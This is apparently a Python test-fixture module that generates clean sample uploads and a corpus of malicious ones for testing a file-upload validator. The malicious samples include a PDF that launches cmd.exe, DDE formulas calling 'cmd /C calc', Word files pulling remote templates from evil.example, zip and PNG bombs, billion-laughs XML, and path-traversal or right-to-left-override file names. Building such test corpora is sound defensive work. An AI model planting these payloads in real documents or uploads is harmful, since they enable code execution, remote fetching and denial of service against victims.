"""Files for tests, made by code: a good one of each kind, and a corpus of bad ones."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image

# In two pieces, so that no scanner takes this file for a virus.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OFFICE = "application/vnd.openxmlformats-officedocument."
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def pdf(inside: bytes = b"", *, after: bytes = b"") -> bytes:
    """A PDF of one empty page."""
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>\nendobj\n"
        + inside
        + b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
        + after
    )


def packed_object(text: bytes) -> bytes:
    """A PDF's object stream holding this text."""
    data = zlib.compress(text)
    about = b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\n" % len(data)
    return about + b"stream\n" + data + b"\nendstream\nendobj\n"


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **saved: Any) -> bytes:
    """A picture."""
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, kind, **saved)
    return made.getvalue()


def huge_png(width: int = 10_000, height: int = 10_000) -> bytes:
    """A picture of a hundred million points in some ten kilobytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))

    rows = zlib.compressobj()
    body = b"".join(rows.compress(b"\0" * (1 + width // 8)) for _ in range(height)) + rows.flush()
    head = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def office(kind: str, parts: dict[str, bytes | str], *, types: str = "") -> bytes:
    """An Office file with these parts beside those it must have."""
    main = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet"}[kind]
    whole: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/main.xml" ContentType="{OFFICE}{main}.main+xml"/>{types}</Types>',
        "_rels/.rels": relationships(("officeDocument", "main.xml", "")),
        **parts,
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in whole.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)  # the same bytes at any time of day
    return made.getvalue()


def relationships(*rows: tuple[str, str, str]) -> str:
    """A part of relationships: type, target, and TargetMode as it is written."""
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{RELATIONSHIP}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(rows)
    )
    return f'<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


OUTSIDE = ' TargetMode="External"'


def docx(text: str = "<w:t>Minutes</w:t>", **parts: Any) -> bytes:
    """A Word file; more parts by path."""
    main = f"<w:document {W}><w:body><w:p><w:r>{text}</w:r></w:p></w:body></w:document>"
    return office("docx", {"word/document.xml": main, **parts})


def xlsx(cell: str = "<v>1</v>", **parts: Any) -> bytes:
    """An Excel file; more parts by path."""
    sheet = f'<worksheet {S}><sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData></worksheet>'
    return office("xlsx", {"xl/workbook.xml": f"<workbook {S}/>", "xl/worksheets/sheet1.xml": sheet, **parts})


def external(path: str, kind: str, target: str) -> dict[str, Any]:
    """A part of relationships that leads out of the file."""
    return {path: relationships((kind, target, OUTSIDE))}


RELS = "word/_rels/document.xml.rels"
FIELD = '<w:fldChar w:fldCharType="begin"/><w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\x </w:instrText>'

GOOD: dict[str, Callable[[], bytes]] = {
    "minutes.pdf": pdf,
    "packed objects.pdf": lambda: pdf(packed_object(b"<< /Type /Page >>")),
    "letter.docx": docx,
    "linked.docx": lambda: docx(**external(RELS, "hyperlink", "https://www.gmc-uk.org/")),
    "page number.docx": lambda: docx("<w:instrText> PAGE </w:instrText>"),
    "Wiśniewski’s link.docx": lambda: docx('<w:instrText> HYPERLINK "https://a.example/link" </w:instrText>'),
    "audit.xlsx": xlsx,
    "sum.xlsx": lambda: xlsx("<f>SUM(B1:B9)&amp;&quot; a|b!&quot;</f>"),
    "printed.xlsx": lambda: xlsx(**{"xl/printerSettings/printerSettings1.bin": b"\0\1"}),
    "certificate.png": picture,
    "poster.JPG": lambda: picture("JPEG"),
    "poster.jpeg": lambda: picture("JPEG"),
    "a" * 146 + ".pdf": pdf,
}


def sheet_of(count: int) -> bytes:
    """A part that packs into nothing."""
    return b"<x>" + b" " * count + b"</x>"


BAD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "EICAR by itself": ("eicar.pdf", lambda: EICAR),
    "nothing in it": ("empty.pdf", lambda: b""),
    "a byte too many": ("large.pdf", lambda: pdf(b"%" + b"a" * 25 * 1024 * 1024)),
    "PDF and archive": ("both.pdf", lambda: pdf(after=docx())),
    "archive inside the PDF's tail": ("both.pdf", lambda: pdf(after=docx() + b"\n%%EOF\n")),
    "PDF and page": ("both.pdf", lambda: pdf(after=b"<html><script>alert(1)</script>")),
    "PDF with a script": ("script.pdf", lambda: pdf(b"4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj")),
    "PDF with an escaped script": ("script.pdf", lambda: pdf(b"4 0 obj << /S /J#61va#53cript /JS (x) >> endobj")),
    "PDF with a packed script": ("script.pdf", lambda: pdf(packed_object(b"<< /S /JavaScript /JS (x) >>"))),
    "PDF with an escaped packed script": (
        "script.pdf",
        lambda: pdf(packed_object(b"<< /S /JavaScript /JS (x) >>").replace(b"/ObjStm", b"/Obj#53tm")),
    ),
    "PDF that starts a program": ("launch.pdf", lambda: pdf(b"4 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
    "PDF with a file in it": ("carrier.pdf", lambda: pdf(b"4 0 obj << /Type /EmbeddedFile >> endobj")),
    "PDF with a form that sends": ("form.pdf", lambda: pdf(b"4 0 obj << /S /SubmitForm >> endobj")),
    "PDF with odd packing": ("odd.pdf", lambda: pdf(packed_object(b"x").replace(b"/FlateDecode", b"/LZWDecode"))),
    "PDF bomb": ("bomb.pdf", lambda: pdf(packed_object(b" " * 40_000_000))),
    "locked PDF": ("locked.pdf", lambda: pdf(b"4 0 obj << /Encrypt 5 0 R >> endobj")),
    "PDF cut off": ("half.pdf", lambda: pdf()[:100]),
    "page called PDF": ("page.pdf", lambda: b"<html><script>alert(1)</script></html>"),
    "program called PDF": ("program.pdf", lambda: b"MZ\x90\0" + b"\0" * 400),
    "script in a drawing": ("drawing.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    "drawing called PNG": ("drawing.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "page": ("page.html", lambda: b"<html></html>"),
    "picture of 10,000 by 10,000": ("huge.png", huge_png),
    "PNG and page": ("both.png", lambda: picture() + b"<html><script>alert(1)</script>"),
    "JPG and page": ("both.jpg", lambda: picture("JPEG") + b"<html><script>alert(1)</script>"),
    "PNG and archive": ("both.png", lambda: picture() + docx()),
    "PNG cut off": ("half.png", lambda: picture(size=(400, 400))[:200]),
    "PNG cut off in the middle": ("half.png", lambda: picture(size=(400, 400))[:90] + picture()[-12:]),
    "JPG cut off": ("half.jpg", lambda: picture("JPEG", size=(400, 400))[:-300]),
    "PNG called JPG": ("picture.jpg", picture),
    "JPG called PDF": ("picture.pdf", lambda: picture("JPEG")),
    "Excel called Word": ("sheet.docx", xlsx),
    "any archive called Word": ("archive.docx", lambda: bare_zip({"a.xml": b"<a/>"})),
    "program behind two extensions": ("cv.pdf.exe", pdf),
    "no extension": ("cv", pdf),
    "archive bomb": ("bomb.docx", lambda: docx(**{"word/big.xml": sheet_of(60_000_000)})),
    "archive bomb that lies": ("bomb.docx", lambda: lying_zip(docx(**{"word/big.xml": sheet_of(60_000_000)}))),
    "archive in an archive": ("nested.docx", lambda: docx(**{"word/embeddings/bomb.zip": docx()})),
    "archive called a picture": ("nested.docx", lambda: docx(**{"word/media/image1.png": docx()})),
    "five thousand entries": ("many.xlsx", lambda: xlsx(**{f"xl/a{n}.xml": "<a/>" for n in range(5_000)})),
    "a way out of the archive": ("out.docx", lambda: docx(**{"../../etc/cron.d/x.xml": "<a/>"})),
    "Word with macros": ("macro.docx", lambda: docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "docm called docx": (
        "macro.docx",
        lambda: office(
            "docx",
            {},
            types='<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
    ),
    "Word with a template from elsewhere": (
        "template.docx",
        lambda: docx(**external("word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm")),
    ),
    "the same, spelt oddly": (
        "template.docx",
        lambda: docx(
            **{RELS: relationships(("attachedTemplate", "http://evil.example/t", ' TargetMode="&#69;xternal"'))}
        ),
    ),
    "Word with a picture from elsewhere": (
        "picture.docx",
        lambda: docx(**external(RELS, "image", "http://evil.example/pixel.png")),
    ),
    "Word with a link to a share": ("share.docx", lambda: docx(**external(RELS, "hyperlink", "\\\\evil\\share"))),
    "Word with a DDE field": ("dde.docx", lambda: docx(FIELD)),
    "Word with entities": (
        "laughs.docx",
        lambda: docx(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'}),
    ),
    "Word in UTF-16": ("wide.docx", lambda: docx(**{"word/a.xml": "<a/>".encode("utf-16")})),
    "Excel with a link to a workbook": (
        "links.xlsx",
        lambda: xlsx(**external("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///x.xlsx")),
    ),
    "Excel with a DDE link": (
        "dde.xlsx",
        lambda: xlsx(
            **{"xl/externalLinks/externalLink1.xml": f'<externalLink {S}><ddeLink ddeService="cmd"/></externalLink>'}
        ),
    ),
    "Excel with a DDE formula": ("dde.xlsx", lambda: xlsx("<f>cmd|' /C calc'!A0</f>")),
    "Excel that asks the web": ("web.xlsx", lambda: xlsx("<f>_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)</f>")),
    "Word with something appended": ("more.docx", lambda: docx() + b"more"),
    "Word with something before it": ("more.docx", lambda: b"#!/bin/sh\n" + docx()),
    "a name that climbs": ("../../etc/passwd.pdf", pdf),
    "a name of Windows that climbs": ("..\\..\\boot.pdf", pdf),
    "a name that runs backwards": ("annexe‮fdp.exe.pdf", pdf),
    "a name with a sign nobody sees": ("cv\u200b\u0007.pdf", pdf),
    "a name of 255 characters": ("a" * 251 + ".pdf", pdf),
    "a name of 300 characters": ("a" * 296 + ".pdf", pdf),
    "a name that is an extension": (".pdf", pdf),
}


def bare_zip(parts: dict[str, bytes]) -> bytes:
    """An archive of these parts and no others."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def lying_zip(data: bytes) -> bytes:
    """The same archive with every size it declares, unpacked, made one kilobyte."""
    lying = bytearray(data)
    for sign, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = lying.find(sign)
        while at != -1:
            lying[at + offset : at + offset + 4] = struct.pack("<I", 1024)
            at = lying.find(sign, at + 4)
    return bytes(lying)


class Arrived:
    """A file as a service receives it."""

    def __init__(self, name: str, data: bytes, *, content_type: str = "application/octet-stream") -> None:
        self.file = io.BytesIO(data)
        self.given_name = name
        self.content_type = content_type
        self.has_failed = False


def form_with(name: str, data: bytes, **fields: str) -> dict[str, Any]:
    """What client.post(page, **form_with(...)) sends: a form with a file under a name just as it is given, which
    Django's own client would tidy."""
    line, edge = "\r\n", "edge-of-a-part"
    parts = [f'--{edge}{line}Content-Disposition: form-data; name="{key}"{line * 2}{fields[key]}' for key in fields]
    given = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
    parts.append(f'--{edge}{line}Content-Disposition: form-data; name="file"; filename="{given}"{line * 2}')
    body = line.join(parts).encode() + data + f"{line}--{edge}--{line}".encode()
    return {"data": body, "content_type": f"multipart/form-data; boundary={edge}"}


def status_of(answer: Any) -> int:
    """The status of an answer whose file is read to its end, which closes it."""
    if answer.streaming:
        b"".join(answer.streaming_content)
    return answer.status_code
